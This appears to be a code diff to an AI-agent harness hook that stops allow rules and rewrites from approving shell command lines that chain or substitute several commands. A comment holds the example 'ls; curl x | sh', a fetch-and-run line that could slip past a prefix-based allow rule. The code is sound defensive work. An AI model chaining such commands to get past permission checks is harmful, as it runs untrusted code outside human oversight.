@@ -219,6 +219,11 @@ def steer_reply(harness, event, row, envelope, effective, env, root, deadline, v
         return reply
 
     decision = verdict.decision if verdict is not None else None
+    if decision == "allow" and _chained(envelope):
+        # `^(ls|cat)\b` must not approve `ls; curl x | sh`: the host asks as it would without the rule
+        notes.append(f"rule {verdict.rule!r}: {CHAINED}; no opinion, the host asks as usual")
+        journal.append({"kind": "allow", "name": verdict.rule, "not_given": CHAINED})
+        return done(answer.proceed(harness))
     if decision == "allow":
         if "allow" in offers:
             parts["allow"] = verdict.reason
@@ -234,6 +239,8 @@ def steer_reply(harness, event, row, envelope, effective, env, root, deadline, v
             from pasture.runtime.steer import rewrite
 
             new, changes, problem = rewrite(verdict.rewrites, envelope.get("tool_input"), deadline)
+            if problem is None and changes and _chained(envelope, new):  # a rewrite is an allow of its result
+                problem = f"the rewritten {CHAINED} (a rewrite approves the call it makes)"
             if problem is not None:
                 refused = unsupported("rewrite", verdict.entry, f"rule {verdict.rule!r}", f"cannot rewrite: {problem}")
             elif changes:
@@ -312,6 +319,25 @@ def steer_reply(harness, event, row, envelope, effective, env, root, deadline, v
             return done(answer.fail(harness, row, f"{event}: {exc}"))
     reply = answer.steered(harness, event, row, parts)
     return done(reply)
+
+
+# What chains or substitutes commands in a shell line (redirections are not here: `echo x > f` is one command)
+_CHAINS = (";", "&", "|", "\n", "\r", "`", "$(", "<(", ">(")
+CHAINED = "shell command line runs more than one command (; & | newline ` $( <( >(): allow is not given for it"
+
+
+def _chained(envelope: dict, tool_input: dict | None = None) -> bool:
+    """A shell call whose command line holds more than one command (or a substitution): an allow (or a
+    rewrite, which the host runs as approved) given for its first words would approve all of it."""
+    if envelope.get("tool_kind") != "shell":
+        return False
+    if tool_input is None:
+        tool_input = envelope.get("tool_input")
+    if not isinstance(tool_input, dict):
+        return False
+    value = tool_input.get("command", tool_input.get("cmd"))  # the command line (a string, or an argv list)
+    words = value if isinstance(value, list) else [value]
+    return any(isinstance(word, str) and any(mark in word for mark in _CHAINS) for word in words)
 
 
 def _judge_rewritten(envelope: dict, new: dict, effective, deadline: float):
